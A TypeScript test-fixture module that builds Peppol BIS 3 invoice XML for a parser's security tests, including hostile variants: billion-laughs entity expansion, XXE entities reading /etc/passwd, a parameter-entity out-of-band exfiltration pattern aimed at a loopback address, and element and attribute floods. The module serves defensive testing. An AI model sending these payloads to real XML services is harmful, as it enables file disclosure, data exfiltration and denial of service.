// Generators of hostile (and of ordinary) submit documents for hostile.test.ts. Nothing here
// imports the code under test: the documents are built by hand, byte for byte.

export const NS = {
  inv: "urn:oasis:names:specification:ubl:schema:xsd:Invoice-2",
  cac: "urn:oasis:names:specification:ubl:schema:xsd:CommonAggregateComponents-2",
  cbc: "urn:oasis:names:specification:ubl:schema:xsd:CommonBasicComponents-2",
};

let seq = 0;

export interface InvoiceOptions {
  /** cbc:ID; unique by default so that no two documents meet the duplicate rule. */
  id?: string;
  /** Text of a cbc:Note (already escaped), placed before the parties. */
  note?: string;
  /** Raw markup inserted right after cbc:ID. */
  inject?: string;
  /** Number of cac:InvoiceLine elements (each is 14 elements). */
  lines?: number;
  /** The XML declaration; "" for none. */
  declaration?: string;
  /** Recipient scheme:value. */
  recipient?: [string, string];
}

/**
 * A complete Peppol BIS 3 invoice (well-formed, UTF-8, buyer EndpointID 0088 with its check digit)
 * that passes the official rules (EN 16931 and Peppol BIS 3): `lines` lines of 100.00 EUR at 21 %.
 */
export function invoiceXml(o: InvoiceOptions = {}): string {
  const id = o.id ?? `HOSTILE-${process.pid}-${++seq}`;
  const [scheme, value] = o.recipient ?? ["0088", "7300010000001"];
  const n = o.lines ?? 1;
  const lines: string[] = [];
  for (let i = 1; i <= n; i++) {
    lines.push(
      `<cac:InvoiceLine><cbc:ID>${i}</cbc:ID><cbc:InvoicedQuantity unitCode="C62">1</cbc:InvoicedQuantity>` +
        `<cbc:LineExtensionAmount currencyID="EUR">100.00</cbc:LineExtensionAmount>` +
        `<cac:Item><cbc:Name>Item ${i}</cbc:Name><cac:ClassifiedTaxCategory><cbc:ID>S</cbc:ID><cbc:Percent>21</cbc:Percent>` +
        `<cac:TaxScheme><cbc:ID>VAT</cbc:ID></cac:TaxScheme></cac:ClassifiedTaxCategory></cac:Item>` +
        `<cac:Price><cbc:PriceAmount currencyID="EUR">100.00</cbc:PriceAmount></cac:Price></cac:InvoiceLine>`,
    );
  }
  const net = `${100 * n}.00`;
  const tax = `${21 * n}.00`;
  const gross = `${121 * n}.00`;
  const declaration = o.declaration ?? `<?xml version="1.0" encoding="UTF-8"?>`;
  return (
    `${declaration}\n` +
    `<Invoice xmlns="${NS.inv}" xmlns:cac="${NS.cac}" xmlns:cbc="${NS.cbc}">` +
    `<cbc:CustomizationID>urn:cen.eu:en16931:2017#compliant#urn:fdc:peppol.eu:2017:poacc:billing:3.0</cbc:CustomizationID>` +
    `<cbc:ProfileID>urn:fdc:peppol.eu:2017:poacc:billing:01:1.0</cbc:ProfileID>` +
    `<cbc:ID>${id}</cbc:ID>${o.inject ?? ""}<cbc:IssueDate>2025-01-15</cbc:IssueDate><cbc:DueDate>2025-02-15</cbc:DueDate>` +
    `<cbc:InvoiceTypeCode>380</cbc:InvoiceTypeCode>` +
    (o.note === undefined ? "" : `<cbc:Note>${o.note}</cbc:Note>`) +
    `<cbc:DocumentCurrencyCode>EUR</cbc:DocumentCurrencyCode><cbc:BuyerReference>PO-1</cbc:BuyerReference>` +
    `<cac:AccountingSupplierParty><cac:Party><cbc:EndpointID schemeID="0106">12345678</cbc:EndpointID>` +
    `<cac:PostalAddress><cbc:CityName>Berlin</cbc:CityName><cac:Country><cbc:IdentificationCode>DE</cbc:IdentificationCode></cac:Country></cac:PostalAddress>` +
    `<cac:PartyTaxScheme><cbc:CompanyID>DE123456789</cbc:CompanyID><cac:TaxScheme><cbc:ID>VAT</cbc:ID></cac:TaxScheme></cac:PartyTaxScheme>` +
    `<cac:PartyLegalEntity><cbc:RegistrationName>Hostile Seller GmbH</cbc:RegistrationName></cac:PartyLegalEntity></cac:Party></cac:AccountingSupplierParty>` +
    `<cac:AccountingCustomerParty><cac:Party><cbc:EndpointID schemeID="${scheme}">${value}</cbc:EndpointID>` +
    `<cac:PostalAddress><cbc:CityName>Brussels</cbc:CityName><cac:Country><cbc:IdentificationCode>BE</cbc:IdentificationCode></cac:Country></cac:PostalAddress>` +
    `<cac:PartyLegalEntity><cbc:RegistrationName>Buyer NV</cbc:RegistrationName></cac:PartyLegalEntity></cac:Party></cac:AccountingCustomerParty>` +
    `<cac:TaxTotal><cbc:TaxAmount currencyID="EUR">${tax}</cbc:TaxAmount><cac:TaxSubtotal><cbc:TaxableAmount currencyID="EUR">${net}</cbc:TaxableAmount>` +
    `<cbc:TaxAmount currencyID="EUR">${tax}</cbc:TaxAmount><cac:TaxCategory><cbc:ID>S</cbc:ID><cbc:Percent>21</cbc:Percent>` +
    `<cac:TaxScheme><cbc:ID>VAT</cbc:ID></cac:TaxScheme></cac:TaxCategory></cac:TaxSubtotal></cac:TaxTotal>` +
    `<cac:LegalMonetaryTotal><cbc:LineExtensionAmount currencyID="EUR">${net}</cbc:LineExtensionAmount>` +
    `<cbc:TaxExclusiveAmount currencyID="EUR">${net}</cbc:TaxExclusiveAmount><cbc:TaxInclusiveAmount currencyID="EUR">${gross}</cbc:TaxInclusiveAmount>` +
    `<cbc:PayableAmount currencyID="EUR">${gross}</cbc:PayableAmount></cac:LegalMonetaryTotal>` +
    lines.join("") +
    `</Invoice>\n`
  );
}

export const b64 = (x: string | Uint8Array): string => (typeof x === "string" ? Buffer.from(x, "utf8") : Buffer.from(x)).toString("base64");

const INVOICE_OPEN = `<Invoice xmlns="${NS.inv}" xmlns:cac="${NS.cac}" xmlns:cbc="${NS.cbc}">`;

/** Billion laughs: ten levels of internal entities, ten references each (10^9 "lol"s if expanded). */
export function billionLaughs(): string {
  const ents = [`<!ENTITY lol "lol">`];
  for (let i = 1; i <= 9; i++) ents.push(`<!ENTITY lol${i} "${`&lol${i === 1 ? "" : i - 1};`.repeat(10)}">`);
  return `<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE Invoice [\n${ents.join("\n")}\n]>\n` + invoiceXml({ declaration: "", note: "&lol9;" });
}

/** External entity (XXE) pointing at /etc/passwd, referenced in the buyer EndpointID and a note. */
export function externalEntity(): string {
  return (
    `<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE Invoice [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n` +
    invoiceXml({ declaration: "", note: "&xxe;", recipient: ["0088", "&xxe;"] })
  );
}

/** Parameter entities: an external DTD pulled in through %remote; and an out-of-band exfiltration pattern. */
export function parameterEntities(): string {
  return (
    `<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE Invoice [\n` +
    `<!ENTITY % file SYSTEM "file:///etc/passwd">\n` +
    `<!ENTITY % remote SYSTEM "http://127.0.0.1:9/evil.dtd">\n` +
    `<!ENTITY % wrap "<!ENTITY &#x25; send SYSTEM 'http://127.0.0.1:9/?%file;'>">\n` +
    `%remote;%wrap;%send;\n]>\n` +
    invoiceXml({ declaration: "" })
  );
}

/** A DOCTYPE with only an external subset, no internal one. */
export function externalDtd(): string {
  return `<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE Invoice SYSTEM "file:///etc/passwd">\n` + invoiceXml({ declaration: "" });
}

/** n nested elements inside the Invoice (after cbc:ID). */
export function deepNesting(n: number): string {
  return invoiceXml({ inject: "<a>".repeat(n) + "</a>".repeat(n) });
}

/** One element with n attributes. */
export function attributeFlood(n: number): string {
  const attrs: string[] = new Array(n);
  for (let i = 0; i < n; i++) attrs[i] = `a${i}="${i}"`;
  return invoiceXml({ inject: `<x ${attrs.join(" ")}/>` });
}

/** n empty sibling elements inside the Invoice: a flat document of about n elements. */
export function flatElements(n: number): string {
  return invoiceXml({ inject: "<x/>".repeat(n) });
}

/** An invoice whose UTF-8 text has `bad` bytes spliced into a cbc:Note. */
export function withBytesInNote(bad: number[]): Buffer {
  const [head, tail] = invoiceXml({ note: "SPLIT" }).split("SPLIT") as [string, string];
  return Buffer.concat([Buffer.from(head, "utf8"), Buffer.from(bad), Buffer.from(tail, "utf8")]);
}

/** The document as UTF-16 with a byte-order mark (declaration says UTF-16). */
export function utf16(xml: string, endian: "le" | "be"): Buffer {
  const text = xml.replace(`encoding="UTF-8"`, `encoding="UTF-16"`);
  const le = Buffer.from(text, "utf16le");
  if (endian === "le") return Buffer.concat([Buffer.from([0xff, 0xfe]), le]);
  const be = Buffer.from(le);
  be.swap16();
  return Buffer.concat([Buffer.from([0xfe, 0xff]), be]);
}

// ---------- ZIP ----------

const CRC_TABLE = (() => {
  const t = new Uint32Array(256);
  for (let n = 0; n < 256; n++) {
    let c = n;
    for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
    t[n] = c >>> 0;
  }
  return t;
})();

function crc32(bytes: Uint8Array): number {
  let c = 0xffffffff;
  for (const b of bytes) c = CRC_TABLE[(c ^ b) & 0xff]! ^ (c >>> 8);
  return (c ^ 0xffffffff) >>> 0;
}

/** A real ZIP archive (stored, no compression) holding one file: local header, central directory, end record. */
export function zipOf(name: string, content: Uint8Array): Buffer {
  const fileName = Buffer.from(name, "utf8");
  const crc = crc32(content);
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0); // local file header signature: PK\x03\x04
  local.writeUInt16LE(20, 4); // version needed
  local.writeUInt16LE(0, 6); // flags
  local.writeUInt16LE(0, 8); // method: stored
  local.writeUInt16LE(0, 10); // time
  local.writeUInt16LE(0x21, 12); // date (1980-01-01)
  local.writeUInt32LE(crc, 14);
  local.writeUInt32LE(content.length, 18);
  local.writeUInt32LE(content.length, 22);
  local.writeUInt16LE(fileName.length, 26);
  local.writeUInt16LE(0, 28);
  const central = Buffer.alloc(46);
  central.writeUInt32LE(0x02014b50, 0);
  central.writeUInt16LE(20, 4);
  central.writeUInt16LE(20, 6);
  central.writeUInt16LE(0, 8);
  central.writeUInt16LE(0, 10);
  central.writeUInt16LE(0, 12);
  central.writeUInt16LE(0x21, 14);
  central.writeUInt32LE(crc, 16);
  central.writeUInt32LE(content.length, 20);
  central.writeUInt32LE(content.length, 24);
  central.writeUInt16LE(fileName.length, 28);
  central.writeUInt32LE(0, 42); // offset of the local header
  const centralOffset = local.length + fileName.length + content.length;
  const centralSize = central.length + fileName.length;
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(centralSize, 12);
  end.writeUInt32LE(centralOffset, 16);
  return Buffer.concat([local, fileName, Buffer.from(content), central, fileName, end]);
}

/** The 22-byte empty archive: just the end-of-central-directory record (PK\x05\x06 and zeros). */
export function emptyZip(): Buffer {
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  return end;
}

/** Base64 wrapped like `base64` / MIME: lines of 76 characters joined by CRLF. */
export function wrap76Crlf(base64: string): string {
  return base64.match(/.{1,76}/g)!.join("\r\n") + "\r\n";
}

export { INVOICE_OPEN };
